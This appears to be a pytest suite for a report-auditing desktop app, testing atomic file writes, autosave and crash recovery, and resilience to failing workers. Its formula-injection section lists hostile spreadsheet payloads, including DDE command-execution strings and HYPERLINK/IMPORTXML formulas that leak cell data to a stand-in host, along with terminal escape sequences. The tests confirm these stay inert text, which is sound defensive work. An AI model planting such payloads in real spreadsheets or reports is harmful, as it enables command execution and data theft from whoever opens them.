"""Never damage a file: inputs untouched, every output written atomically, no report text ever a
formula, review work autosaved, and the window alive through a worker's exception or a corrupt
session file."""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from conftest import ROOT, SAMPLES

pytest.importorskip("PySide6.QtWidgets")

from openpyxl import load_workbook

from auditapp.api import audit_file
from auditapp.export.workbook import ExportError, write_workbook
from auditapp.review import Review, ReviewError, load_reviews, save_reviews

SEED = SAMPLES / "000_5765c3367762f63e.txt"
FORMATS = ROOT / "resources" / "samples" / "formats"


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


pytestmark = pytest.mark.usefixtures("settings_in_tmp")  # conftest: QSettings in a temporary folder


# ---- inputs are never written ------------------------------------------------------------------


def _inputs(tmp_path: Path) -> list[Path]:
    folder = tmp_path / "reports"
    folder.mkdir()
    paths = [folder / SEED.name]
    shutil.copy(SEED, paths[0])
    for sample in sorted(FORMATS.iterdir()):
        paths.append(folder / sample.name)
        shutil.copy(sample, paths[-1])
    broken = folder / "broken.docx"
    broken.write_bytes((FORMATS / "000_5765c3367762f63e.docx").read_bytes()[:3000])
    paths.append(broken)
    return paths


def test_inputs_are_byte_identical_after_the_cli_the_workbook_and_the_window(tmp_path, qtbot, monkeypatch):
    from PySide6.QtWidgets import QFileDialog

    from auditapp.cli import main
    from auditapp.gui.main_window import MainWindow

    paths = _inputs(tmp_path)
    before = {p: sha256(p) for p in paths}
    stamps = {p: p.stat().st_mtime_ns for p in paths}
    assert main(["audit", *map(str, paths), "--json", "--xlsx", str(tmp_path / "cli.xlsx"), "--workers", "0"]) == 2
    assert main(["audit", str(paths[0].parent), "--workers", "2"]) == 2
    window = MainWindow()
    qtbot.addWidget(window)
    _open(window, paths[0].parent, seconds=120)
    window.batch.select_row(0)
    window.findings.view.setCurrentIndex(window.findings.proxy.index(0, 0))
    _comment(window, monkeypatch, "已核实")
    monkeypatch.setattr(QFileDialog, "getSaveFileName", lambda *a, **k: (str(tmp_path / "window.xlsx"), ""))
    assert window.export(all_reports=True)
    monkeypatch.setattr(QFileDialog, "getSaveFileName", lambda *a, **k: (str(tmp_path / "review.json"), ""))
    assert window.save_session()
    window.close()
    assert {p: sha256(p) for p in paths} == before
    assert {p: p.stat().st_mtime_ns for p in paths} == stamps
    assert sorted(p.name for p in paths[0].parent.iterdir()) == sorted(p.name for p in paths)  # nothing beside them


# ---- atomic writes: a failure mid-write leaves the previous file ----------------------------------


def test_a_workbook_write_failing_mid_zip_leaves_the_previous_file(tmp_path, monkeypatch):
    """The failure injected inside openpyxl's writing, after some parts of the zip are written."""
    target = tmp_path / "out.xlsx"
    result = audit_file(str(SEED))
    write_workbook([result], str(target))
    before = target.read_bytes()
    real = zipfile.ZipFile.writestr
    calls = []

    def fail_on_the_fifth_part(self, *args, **kwargs):
        calls.append(1)
        if len(calls) == 5:
            raise OSError(28, "No space left on device")
        return real(self, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "writestr", fail_on_the_fifth_part)
    with pytest.raises(ExportError) as info:
        write_workbook([result], str(target))
    assert "No space left on device" in info.value.message
    assert len(calls) == 5
    assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.xlsx"]  # the half-written temporary file is gone


class _HalfWriter(io.StringIO):
    """A file whose disk fills up halfway through a write."""

    def __init__(self, real) -> None:
        super().__init__()
        self.real = real

    def write(self, text: str) -> int:
        self.real.write(text[: len(text) // 2])
        self.real.flush()
        raise OSError(28, "No space left on device")

    def __exit__(self, *exc) -> None:
        self.real.close()


def test_a_session_write_failing_halfway_leaves_the_previous_file(tmp_path, monkeypatch):
    import auditapp.review as review

    path = tmp_path / "session.json"
    save_reviews({("a.txt", "k"): Review("confirmed", "旧")}, str(path))
    before = path.read_bytes()
    real_fdopen = os.fdopen
    monkeypatch.setattr(review.os, "fdopen", lambda fd, *a, **k: _HalfWriter(real_fdopen(fd, *a, **k)))
    with pytest.raises(ReviewError) as info:
        save_reviews({("a.txt", "k"): Review("dismissed", "新" * 10000)}, str(path))
    assert "无法保存" in info.value.message
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["session.json"]


def test_a_corrupt_session_file_is_kept_and_an_earlier_copy_never_overwritten(tmp_path):
    path = tmp_path / "s.json"
    for text in ("{broken", "[" * 100_000):  # the second nests too deep for the JSON parser
        path.write_text(text, encoding="utf-8")
        with pytest.raises(ReviewError):
            load_reviews(str(path))
    assert (tmp_path / "s.json.corrupt").read_text(encoding="utf-8") == "{broken"
    assert (tmp_path / "s.json.corrupt-2").read_text(encoding="utf-8") == "[" * 100_000
    assert not path.exists()


def test_a_session_file_that_cannot_be_opened_is_left_where_it_is(tmp_path):
    folder = tmp_path / "s.json"
    folder.mkdir()
    with pytest.raises(ReviewError) as info:
        load_reviews(str(folder))
    assert "无法打开" in info.value.message
    assert folder.is_dir() and not (tmp_path / "s.json.corrupt").exists()


def test_settings_are_written_to_a_new_file_renamed_over_the_old(settings_in_tmp):
    """Qt writes an ini file through QSaveFile: the whole new file, then a rename. Seen from
    outside, the file is replaced (a new inode), never rewritten in place, so a failure mid-write
    leaves the old one."""
    from PySide6.QtCore import QSettings

    settings = QSettings()
    settings.setValue("recent", ["a.txt"])
    settings.sync()
    path = Path(settings.fileName())
    assert path.is_file() and settings.status() is QSettings.Status.NoError
    inode = path.stat().st_ino
    settings.setValue("recent", ["b.txt" * 1000])
    settings.sync()
    assert path.stat().st_ino != inode
    assert "b.txtb.txt" in path.read_text(encoding="utf-8")
    assert [p.name for p in path.parent.iterdir()] == [path.name]  # no temporary file left


# ---- formula injection -------------------------------------------------------------------------

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '=DDE("cmd";"/C calc";"A0")',
    '=IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a")',
]


def _formula_cells(path: Path) -> list[str]:
    """The text of every <f> element in the workbook's sheets: the formulas Excel would run."""
    import re

    found = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                found += re.findall(r"<f>(.*?)</f>", z.read(name).decode("utf-8"))
    return found


def test_classic_formula_payloads_in_a_report_stay_text_in_the_workbook(tmp_path):
    """Payloads as the body's name, a narrative line, a table cell's text, a file's name and an
    inspector's comment: each cell holding one is a string cell, quote-prefixed, its text exact."""
    from auditapp.review import finding_key

    text = SEED.read_text(encoding="utf-8")
    agency = text.split("\n")[0].split("2023")[0]
    lines = text.replace(agency, PAYLOADS[1], 1).split("\n")
    lines[5:5] = [p.replace("\r", "") for p in PAYLOADS]
    text = "\n".join(lines).replace("| 782 | 8 |", "| =1+1 | 8 |", 1)
    path = tmp_path / "=cmd|' -C calc'!A0.txt"
    path.write_text(text, encoding="utf-8")
    result = audit_file(str(path))
    assert result.report.cells["t3.new.natural_person"].raw == "=1+1"
    reviews = {(result.path, finding_key(f)): Review("confirmed", "=2+2") for f in result.findings[:1]}
    target = tmp_path / "out.xlsx"
    write_workbook([result], str(target), reviews=reviews)

    wb = load_workbook(target)
    cells = [(ws.title, c) for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    wanted = {p.replace("\r", "") for p in PAYLOADS}  # a line's \r is a line break in the source
    found: dict[str, list] = {}
    for title, cell in cells:
        text = cell.value.strip()
        if cell.value in wanted or text in wanted or path.name in cell.value:
            found.setdefault(cell.value if cell.value in wanted else text, []).append((title, cell))
    assert wanted - {"\t=1+1"} <= set(found) | {p.strip() for p in found}, sorted(wanted - set(found))
    for places in found.values():
        for title, cell in places:
            assert cell.data_type == "s", (title, cell.coordinate, cell.value)
            if cell.value.lstrip(" ").startswith(("=", "+", "-", "@", "\t")):
                assert cell.quotePrefix, (title, cell.coordinate, cell.value)
    assert any(path.name in cell.value for _, cell in cells)  # the file's name, kept exactly
    assert any(cell.value == "确认：=2+2" and cell.data_type == "s" for _, cell in cells)  # the inspector's comment
    formulas = _formula_cells(target)
    assert formulas  # the workbook's own checks are live formulas, of cell references and sums only
    assert all(re.fullmatch(r"[A-Z0-9$:,+\-()]+", f) for f in formulas), [f for f in formulas][:5]


def test_put_text_keeps_each_payload_as_text_exactly(tmp_path):
    from openpyxl import Workbook

    from auditapp.export.workbook import put_text

    wb = Workbook()
    ws = wb.active
    for k, payload in enumerate(PAYLOADS, 1):
        put_text(ws.cell(k, 1), payload)
    ws.cell(len(PAYLOADS) + 1, 1, "=1+1")  # what openpyxl does with a bare string: a formula
    target = tmp_path / "p.xlsx"
    wb.save(target)
    back = load_workbook(target).active
    for k, payload in enumerate(PAYLOADS, 1):
        cell = back.cell(k, 1)
        assert cell.data_type == "s" and cell.value == payload.replace("\r", "\r"), (payload, cell.value)
    assert back.cell(len(PAYLOADS) + 1, 1).data_type == "f"  # the test can tell the difference
    assert _formula_cells(target) == ["1+1"]


# ---- the window: autosave, corrupt files, exceptions ------------------------------------------------


def _fault(tmp_path: Path) -> Path:
    path = tmp_path / "fault.txt"
    path.write_text(SEED.read_text(encoding="utf-8").replace("| 782 | 8 |", "| 781 | 8 |"), encoding="utf-8")
    return path


def _open(window, *paths: Path, seconds: float = 60) -> None:
    """Open the files in the window and wait until they are audited."""
    window.open_paths([str(p) for p in paths])
    assert window.wait_until_done(seconds)


def _comment(window, monkeypatch, text: str) -> None:
    """Click 意见… and answer its dialog with `text`."""
    from PySide6.QtWidgets import QInputDialog

    monkeypatch.setattr(QInputDialog, "getMultiLineText", lambda *a, **k: (text, True))
    window.findings.comment_button.click()  # the real button, as a user clicks it


def _reviewing(qtbot, report: Path):
    """A window with `report` open, its first finding selected, autosaving 50 ms after a change."""
    from auditapp.gui.main_window import MainWindow

    window = MainWindow()
    qtbot.addWidget(window)
    window.autosave.timer.setInterval(50)
    _open(window, report)
    window.findings.view.setCurrentIndex(window.findings.proxy.index(0, 0))
    return window


def test_review_work_is_autosaved_and_recovered_after_a_crash(qtbot, tmp_path, no_modal_dialogs, monkeypatch):
    from auditapp.gui import autosave
    from auditapp.gui.main_window import MainWindow

    report = _fault(tmp_path)
    first = _reviewing(qtbot, report)
    first.findings.confirm_button.click()
    _comment(first, monkeypatch, "已与报送单位核实")
    recovery = Path(autosave.recovery_path())
    assert recovery.parent == tmp_path / "app-data"  # conftest: never the user's folder
    qtbot.waitUntil(lambda: recovery.exists() and not first.autosave.pending, timeout=5000)
    saved = json.loads(recovery.read_text(encoding="utf-8"))["reviews"]
    assert [(r["state"], r["comment"]) for r in saved] == [("confirmed", "已与报送单位核实")]

    # a crash: the first window never closes (no closeEvent, nothing more saved); a new one starts
    second = MainWindow()
    qtbot.addWidget(second)
    assert second.recovered == 1
    assert "1" in second.statusBar().currentMessage()
    _open(second, report)
    model = second.findings.model
    assert model.index(0, 4).data() in ("确认", "Confirmed") and model.index(0, 5).data() == "已与报送单位核实"


def test_autosave_goes_to_the_chosen_session_file_and_the_recovery_file_goes(qtbot, tmp_path, monkeypatch):
    from PySide6.QtWidgets import QFileDialog

    from auditapp.gui import autosave

    window = _reviewing(qtbot, _fault(tmp_path))
    window.findings.dismiss_button.click()
    recovery = Path(autosave.recovery_path())
    qtbot.waitUntil(recovery.exists, timeout=5000)
    session = tmp_path / "mine.json"
    monkeypatch.setattr(QFileDialog, "getSaveFileName", lambda *a, **k: (str(session), ""))
    assert window.save_session() == str(session)
    assert not recovery.exists()  # the work is in the inspector's own file now
    _comment(window, monkeypatch, "复核完毕")
    qtbot.waitUntil(lambda: "复核完毕" in session.read_text(encoding="utf-8"), timeout=5000)
    assert not recovery.exists()


def test_a_failing_autosave_says_so_keeps_the_old_file_and_tries_again(qtbot, tmp_path, monkeypatch):
    import auditapp.gui.autosave as autosave_module

    window = _reviewing(qtbot, _fault(tmp_path))
    window.findings.confirm_button.click()
    recovery = Path(autosave_module.recovery_path())
    qtbot.waitUntil(lambda: recovery.exists() and not window.autosave.pending, timeout=5000)
    before = recovery.read_bytes()

    def full_disk(session, path):
        raise ReviewError(f"无法保存复核记录 {path}：No space left on device")

    monkeypatch.setattr(autosave_module, "save_session", full_disk)
    _comment(window, monkeypatch, "磁盘已满时写的")
    qtbot.waitUntil(lambda: "No space left" in window.statusBar().currentMessage(), timeout=5000)
    assert recovery.read_bytes() == before and window.autosave.pending
    monkeypatch.undo()
    monkeypatch.setenv("AUDITAPP_DATA_DIR", str(tmp_path / "app-data"))
    _comment(window, monkeypatch, "空间恢复后")
    qtbot.waitUntil(lambda: "空间恢复后" in recovery.read_text(encoding="utf-8"), timeout=5000)


def test_a_corrupt_session_file_is_said_without_waiting_and_the_window_starts_clean(qtbot, tmp_path, no_modal_dialogs):
    from PySide6.QtCore import QSettings

    from auditapp.gui.main_window import MainWindow

    session = tmp_path / "review.json"
    session.write_bytes(b"\x00\xff{garbage")
    QSettings().setValue("review/session", str(session))
    window = MainWindow()
    qtbot.addWidget(window)
    assert window.reviews == {} and window.session.path is None
    assert len(window.notices) == 1 and "无法读取" in window.notices[0] and "已另存为" in window.notices[0]
    assert "无法读取" in window.statusBar().currentMessage()
    assert (tmp_path / "review.json.corrupt").read_bytes() == b"\x00\xff{garbage"
    _open(window, _fault(tmp_path))  # and it works
    assert window.current.report is not None


def test_a_corrupt_recovery_file_is_kept_aside_and_the_window_starts_clean(qtbot, tmp_path, no_modal_dialogs):
    from auditapp.gui import autosave
    from auditapp.gui.main_window import MainWindow

    recovery = Path(autosave.recovery_path())
    recovery.parent.mkdir(parents=True)
    recovery.write_text('{"reviews": [{"file": 1', encoding="utf-8")
    window = MainWindow()
    qtbot.addWidget(window)
    assert window.reviews == {} and window.recovered == 0
    assert window.notices and "无法读取" in window.notices[0]
    assert Path(f"{recovery}.corrupt").exists() and not recovery.exists()


def test_the_window_survives_a_job_that_raises_in_its_thread(qtbot, tmp_path, monkeypatch, no_modal_dialogs):
    import auditapp.gui.loader as loader
    import auditapp.gui.main_window as main_window

    real = loader.audit_file

    def sometimes(path):
        if "raise" in os.path.basename(path):
            raise RuntimeError("a bug in the audit")
        return real(path)

    monkeypatch.setattr(loader, "audit_file", sometimes)
    good = tmp_path / "good.txt"
    shutil.copy(SEED, good)
    bad = tmp_path / "raise.txt"
    shutil.copy(SEED, bad)
    window = main_window.MainWindow()
    qtbot.addWidget(window)
    _open(window, bad, good)
    failed, fine = window.results()
    assert failed.status.value == "failed" and "RuntimeError" in failed.error and "a bug in the audit" in failed.error
    assert fine.report is not None and len(fine.report.cells) == 200
    window.batch.select_row(0)
    assert "RuntimeError" in window.report_view.source.toPlainText()
    again = tmp_path / "again.txt"
    shutil.copy(SEED, again)
    _open(window, again)  # still working
    assert len(window.results()) == 3 and window.results()[2].report is not None


def test_the_window_survives_workers_that_raise_or_die(qtbot, tmp_path, monkeypatch, no_modal_dialogs):
    from hostile_jobs import ExplodingJob

    import auditapp.gui.loader as loader
    import auditapp.gui.main_window as main_window

    monkeypatch.setattr(loader, "AuditJob", ExplodingJob)
    folder = tmp_path / "batch"
    folder.mkdir()
    names = ["a.txt", "raise.txt", "b.txt", "crash.txt", "c.txt", "d.txt"]
    for name in names:
        shutil.copy(SEED, folder / name)
    window = main_window.MainWindow()
    qtbot.addWidget(window)
    window.open_paths([str(folder / n) for n in names])  # more than IN_PROCESS: worker processes
    assert len(names) > loader.IN_PROCESS
    assert window.wait_until_done(120)
    by_name = {os.path.basename(r.path): r for r in window.results()}
    assert "RuntimeError" in by_name["raise.txt"].error
    assert "审核进程意外退出" in by_name["crash.txt"].error
    for name in ("a.txt", "b.txt", "c.txt", "d.txt"):
        assert len(by_name[name].report.cells) == 200, name
    window.close()


def test_escape_sequences_in_a_report_never_reach_the_terminal(tmp_path, capsys):
    """A report's text is printed in the CLI's summary: its control characters are not."""
    from auditapp.cli import main

    text = SEED.read_text(encoding="utf-8")
    agency = text.split("\n")[0].split("2023")[0]
    path = tmp_path / "esc.txt"
    path.write_text(text.replace(agency, "某\x1b[2J\x1b]0;pwned\x07局", 1).replace("| 782 |", "| 781\x9b31m |", 1))
    main(["audit", str(path), "--workers", "0"])
    out = capsys.readouterr().out
    assert "某" in out and "pwned" in out  # the text is there …
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", out)  # … without a control character


def test_a_file_that_hangs_in_the_windows_thread_is_stopped_at_the_time_limit(
    qtbot, tmp_path, monkeypatch, no_modal_dialogs
):
    """Up to four files are audited in a thread, which cannot be killed: the watchdog stops the
    work at the limit, the file says so, and the thread is free for the next file."""
    import auditapp.gui.loader as loader
    import auditapp.gui.main_window as main_window

    real = loader.audit_file

    def hang_on_some(path):
        if "hang" in os.path.basename(path):
            while True:  # a library's endless loop on a crafted file
                pass
        return real(path)

    monkeypatch.setattr(loader, "audit_file", hang_on_some)
    monkeypatch.setattr(loader, "IN_PROCESS_TIMEOUT", 1.0)
    hang, good = tmp_path / "hang.txt", tmp_path / "good.txt"
    shutil.copy(SEED, hang)
    shutil.copy(SEED, good)
    window = main_window.MainWindow()
    qtbot.addWidget(window)
    _open(window, hang, good, seconds=30)
    stopped, fine = window.results()
    assert stopped.status.value == "failed" and "审核超过 1 秒" in stopped.error
    assert len(fine.report.cells) == 200
    again = tmp_path / "again.txt"
    shutil.copy(SEED, again)
    _open(window, again)  # the thread is free again
    assert len(window.results()) == 3 and window.results()[2].report is not None


def test_an_export_past_the_memory_limit_says_so_and_keeps_the_old_workbook(tmp_path, monkeypatch, capsys):
    """The workbook is written in the CLI's own process: the workers' ceiling watches it too."""
    import time

    import auditapp.export.workbook as workbook
    from auditapp.cli import main
    from auditapp.memlimit import MIN_MEMORY_LIMIT_MB

    def greedy(*args, **kwargs):  # an export that grows without end, as 99,316 findings did
        hoard = []
        while len(hoard) < 64:  # 1 GB at most, well past the 256 MB limit: then the watch has failed
            hoard.append(bytearray(16 * 1024 * 1024))
            time.sleep(0.01)
        raise AssertionError("the memory watch never fired")

    monkeypatch.setattr(workbook, "write_workbook", greedy)
    target = tmp_path / "out.xlsx"
    target.write_bytes(b"the earlier workbook")
    code = main(["audit", str(SEED), "--xlsx", str(target), "--memory-limit", str(MIN_MEMORY_LIMIT_MB)])
    assert code == 2
    err = capsys.readouterr().err
    assert "内存上限" in err and "Traceback" not in err
    assert target.read_bytes() == b"the earlier workbook"
